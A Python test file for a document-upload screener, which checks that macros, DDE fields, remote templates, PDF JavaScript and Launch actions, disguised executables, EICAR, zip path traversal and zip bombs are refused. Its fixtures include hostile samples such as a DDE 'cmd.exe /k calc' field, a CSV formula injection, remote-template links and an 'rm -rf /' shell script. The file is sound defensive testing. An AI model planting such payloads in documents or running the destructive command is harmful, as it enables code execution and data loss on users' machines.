"""What runs, fetches or pretends is not taken: macros, DDE, remote templates, scripts, programs, names (art. 39)."""

from __future__ import annotations

import io
import struct
import zipfile

import pytest

from service.documents.forms.look import EICAR
from service.documents.judging import judge_bytes
from service.documents.notes import fault
from tests.documents.forms_pdf import TEXT
from tests.documents.papers import REL, ole, para, sheet, slides, word, zipped
from tests.documents.papers import odf as open_document
from tests.documents.test_documents import pdf_of


def relations(kind: str, target: str) -> str:
    return f'<Relationships><Relationship Type="{REL}/{kind}" Target="{target}" TargetMode="External"/></Relationships>'


def field(code: str) -> str:
    half = len(code) // 2
    return para(
        f"<w:r><w:instrText>{code[:half]}</w:instrText></w:r>",
        f"<w:r><w:instrText>{code[half:]}</w:instrText></w:r>",
    )


def boundsheet(kind: int) -> bytes:
    body = bytes(5) + bytes([kind]) + b"\x05\x00Macro"
    return b"\x09\x08\x04\x00\x00\x06\x05\x00" + b"\x85\x00" + len(body).to_bytes(2, "little") + body


PROGRAM = b"MZ\x90\x00\x03\x00\x00\x00" + bytes(60) + b"This program cannot be run in DOS mode"
SHORTCUT = b"L\x00\x00\x00\x01\x14\x02\x00" + bytes(60)
ACTIVE = {
    "VBA": word(word__vbaProject_dot_bin=b"\xd0\xcf\x11\xe0"),
    "VBA under another name": word(word__other_dot_bin=ole({"VBA/dir": b"x"})),
    "Excel 4 macro sheet": sheet(parts={"xl/macrosheets/sheet1.xml": "<xm:macrosheet><c><f>EXEC(\"calc\")</f></c></xm:macrosheet>"}),
    "EXEC in a sheet": sheet('<sheetData><row><c><f>EXEC("calc")</f><v>1</v></c></row></sheetData>'),
    "DDE field": word(field("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe /k calc")),
    "DDE simple field": word('<w:p><w:fldSimple w:instr=" DDE excel a "/></w:p>'),
    "DDE formula": sheet("<sheetData><row><c><f>cmd|'/c calc'!A0</f><v>1</v></c></row></sheetData>"),
    "DDE link": sheet(parts={"xl/externalLinks/externalLink1.xml": '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c"/></externalLink>'}),
    "DDE in OpenDocument": open_document('<table:table-cell table:formula="of:=DDE(&quot;soffice&quot;;&quot;a&quot;)"/>', "spreadsheet"),
    "DDE in CSV": "名称,值\n一,=cmd|'/C calc'!A0\n".encode(),
    "remote template": word(word__rels__settings_dot_xml_dot_rels=relations("attachedTemplate", "http://203.0.113.9/a.dotm")),
    "template on a share": word(word__rels__settings_dot_xml_dot_rels=relations("attachedTemplate", "file:///\\\\203.0.113.9\\s\\a.dotm")),
    "remote object": word(word__rels__document_dot_xml_dot_rels=relations("oleObject", "https://203.0.113.9/a.html!")),
    "remote frame": word(word__rels__webSettings_dot_xml_dot_rels=relations("frame", "https://203.0.113.9/a.html")),
    "ActiveX": word(word__activeX__activeX1_dot_xml='<ax:ocx ax:classid="{0}"/>'),
    "program by a click": slides('<a:hlinkClick action="ppaction://program"/>'),
    "program inside": word(word__embeddings__a_dot_bin=PROGRAM),
    "packed program": word(word__embeddings__o_dot_bin=ole({"\x01Ole10Native": b"\0\0\0\0\x02\0setup.exe\0C:\\setup.exe\0"})),
    "Basic": open_document("", parts={"Basic/Standard/Module1.xml": '<script:module script:language="StarBasic">Sub</script:module>'}),
    "Basic by an event": open_document('<script:event-listener xlink:href="vnd.sun.star.script:a.b?language=Basic"/>'),
    "old VBA": ole({"WordDocument": b"x", "Macros/VBA": b"y"}),
    "old Excel 4 macros": ole({"Workbook": boundsheet(1)}),
    "old DDE field": ole({"WordDocument": b"\x13 DDEAUTO c:\\\\cmd.exe \x14x\x15"}),
    "PDF script": pdf_of(TEXT, root=b"/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>"),
    "PDF script by name": pdf_of(TEXT, root=b"/Names << /JavaScript << /Names [(a) 6 0 R] >> >>", more=(b"<< /S /JavaScript /JS (x) >>",)),
    "PDF script of a page": pdf_of(TEXT, page=b"/AA << /O << /S /JavaScript /JS (x) >> >>"),
    "PDF launch": pdf_of(TEXT, root=b"/OpenAction << /S /Launch /F (cmd.exe) >>"),
    "PDF sends its form": pdf_of(TEXT, page=b"/Annots [<< /Subtype /Link /A << /S /SubmitForm /F (http://203.0.113.9) >> >>]"),
    "broken PDF script": b"%PDF-1.4\n1 0 obj << /S /JavaScript /JS (x) >> endobj",
    "page with a script": b"<html><body><script>alert(1)</script></body></html>",
    "page with a handler": b"<html><body onload='x()'>a</body></html>",
    "page with an address that runs": b"<html><body><a href=' java\tscript:x'>a</a><a href='javascript:x'>b</a></body></html>",
    "HTA": b"<hta:application id=a><p>x</p>",
    "HTA in a page": b"<html><head><hta:application id='a'/></head></html>",
    "picture with a script": b"<svg xmlns='http://www.w3.org/2000/svg'><script>x()</script></svg>",
    "picture with a handler": b"<svg xmlns='http://www.w3.org/2000/svg' onload='x()'/>",
    "RTF object": b"{\\rtf1 {\\object\\objemb{\\*\\objdata 0105}}}",
    "RTF remote template": b"{\\rtf1 {\\*\\template http://203.0.113.9/a.dotm}}",
    "RTF DDE": b"{\\rtf1 {\\field{\\*\\fldinst DDEAUTO cmd x}}}",
    "Word 2003 macros": b'<?xml version="1.0"?><w:wordDocument w:macrosPresent="yes"/>',
    "in a pack": zipped({"一/二.docm.docx": b"x", "三.docx": word(word__vbaProject_dot_bin=b"x")}),
}  # fmt: skip


@pytest.mark.parametrize("raw", ACTIVE.values(), ids=ACTIVE)
def test_what_runs_by_itself_is_not_taken(raw: bytes) -> None:
    assert judge_bytes(raw).refused == "active_content"


TOLD = {
    "included file": word(field("INCLUDETEXT c:\\\\a.docx")),
    "linked picture": word(
        word__rels__document_dot_xml_dot_rels=relations("image", "https://203.0.113.9/a.png")
    ),
    "linked workbook": sheet(
        parts={"xl/externalLinks/externalLink1.xml": "<externalLink><externalBook/></externalLink>"}
    ),
    "fetched cell": sheet(
        '<sheetData><row><c><f>WEBSERVICE("http://203.0.113.9")</f><v>1</v></c></row></sheetData>'
    ),
    "linked section": open_document('<text:section-source xlink:href="../a.odt"/>'),
}


@pytest.mark.parametrize("raw", TOLD.values(), ids=TOLD)
def test_what_lies_outside_the_file_is_told(raw: bytes) -> None:
    told = judge_bytes(raw)
    assert told.refused == "" and "external" in told.notes, told


PROGRAMS = {
    "program": PROGRAM,
    "shortcut": SHORTCUT,
    "shell script": b"#!/bin/sh\nrm -rf /\n",
    "batch": b"@echo off\r\n",
    "elf": b"\x7fELF\x02\x01\x01" + bytes(20),
    "class": b"\xca\xfe\xba\xbe" + bytes(20),
}


@pytest.mark.parametrize("raw", PROGRAMS.values(), ids=PROGRAMS)
def test_a_program_is_not_taken_whatever_it_is_called(raw: bytes) -> None:
    assert judge_bytes(raw, "方案.pdf").refused == "executable_content"
    packed = judge_bytes(zipped({"材料/方案.pdf": raw}))
    assert (packed.refused, packed.where) == ("executable_content", "材料/方案.pdf")


@pytest.mark.parametrize(
    "raw",
    [
        EICAR,
        EICAR + b"\r\n",
        b"x" * 100 + EICAR,
        zipped({"a/b.txt": EICAR}),
        zipped({"a.zip": zipped({"b.com.txt": EICAR})}),
        word(word__media__image1_dot_png=b"\x89PNG\r\n\x1a\n" + EICAR),
        ole({"WordDocument": EICAR}),
        pdf_of(
            TEXT, more=(b"<< /Type /EmbeddedFile /Length %d >>\nstream\n%s\nendstream" % (len(EICAR), EICAR),)
        ),
    ],
)
def test_the_antivirus_test_file_is_found_wherever_it_lies(raw: bytes) -> None:
    assert judge_bytes(raw).refused == "malware"


@pytest.mark.parametrize(
    ("name", "code"),
    [
        ("x.pdf.exe", "double_ending"),
        ("x.PDF.EXE", "double_ending"),
        ("方案.docx.scr", "double_ending"),
        ("方案.pdf .exe", "double_ending"),
        ("方案.pdf.exe. ", "double_ending"),
        ("方案.pdf．ｅｘｅ", "double_ending"),
        ("方案.exe.pdf", "double_ending"),
        ("图.jpg.html", "double_ending"),
        ("方案.pdf.lnk", "double_ending"),
        ("方案.pdf" + " " * 90 + ".js", "double_ending"),
        ("a.hta", "executable_name"),
        ("a.docm", "executable_name"),
        ("a.vbs", "executable_name"),
        ("a.txt::$DATA", "executable_name"),
        ("a.desktop", "executable_name"),
        ("建设\u202excod.exe", "unseen_characters"),
        ("建\u200b设.pdf", "unseen_characters"),
        ("a\u2066b.pdf", "unseen_characters"),
        ("a\u2028b.pdf", "unseen_characters"),
        ("a\x7fb.pdf", "unseen_characters"),
        ("a\u3164b.pdf", "unseen_characters"),
        ("a\ufeffb.pdf", "unseen_characters"),
        ("a\U000e0041b.pdf", "unseen_characters"),
        ("机密★10年.pdf", "classified"),
        ("方案.pdf", ""),
        ("Vue.js 方案.pdf", ""),
        ("v1.2 终稿.docx.pdf", ""),
        ("说明", ""),
        ("方案（定稿）.wps", ""),
        ("材料.pdf.zip", ""),
    ],
)
def test_a_name_shows_what_the_file_is(name: str, code: str) -> None:
    raw = TEXT if not name.endswith((".pdf", ".docx")) else pdf_of(TEXT)
    told = judge_bytes(raw, name)
    assert told.refused == code
    if code and code != "classified":
        assert fault(code).pointer == "/name"


def test_a_name_that_promises_another_type_is_told() -> None:
    assert judge_bytes(pdf_of(TEXT), "方案.docx").notes == ("name",)
    assert judge_bytes(word(), "方案.pdf").notes == ("name",)
    assert judge_bytes(word(), "方案.doc").notes == ()


@pytest.mark.parametrize("name", ["../a.txt", "..\\a.txt", "/etc/a.txt", "C:\\a.txt", "一/../../a.txt"])
def test_paths_out_of_a_pack_are_refused(name: str) -> None:
    assert judge_bytes(zipped({name: "x"})).refused == "unsafe_entry"


def test_no_entry_of_a_pack_is_something_else_than_it_looks() -> None:
    """A link unpacks to what it points to; a second name is the one that desktops show."""
    for mode, extra, refused in (
        (0o120777, b"", "unsafe_entry"),
        (0o100644, b"\x01" + bytes(4) + b"a.pdf.exe", "double_ending"),
        (0o100644, b"\x01" + bytes(4) + b"../a.txt", "unsafe_entry"),
    ):
        made = io.BytesIO()
        with zipfile.ZipFile(made, "w") as package:
            entry = zipfile.ZipInfo("a.txt")
            entry.create_system, entry.external_attr = 3, mode << 16
            entry.extra = struct.pack("<HH", 0x7075, len(extra)) + extra if extra else b""
            package.writestr(entry, "/etc/passwd")
        assert judge_bytes(made.getvalue()).refused == refused


def test_packs_are_read_within_bounds() -> None:
    inner = zipped({"a.txt": "公开"})
    for _ in range(8):
        inner = zipped({"a.zip": inner})
    assert judge_bytes(inner).refused == "unreadable_file"
    assert judge_bytes(zipped({f"{n}.txt": "x" for n in range(6500)})).refused == "unreadable_file"
    assert judge_bytes(zipped({"a.txt": b"0" * (30 << 20)})).refused == "unreadable_file"
    named = judge_bytes(zipped({"一/二.zip": zipped({"三.exe": "x"})}))
    assert (named.refused, named.where) == ("executable_name", "一/二.zip/三.exe")
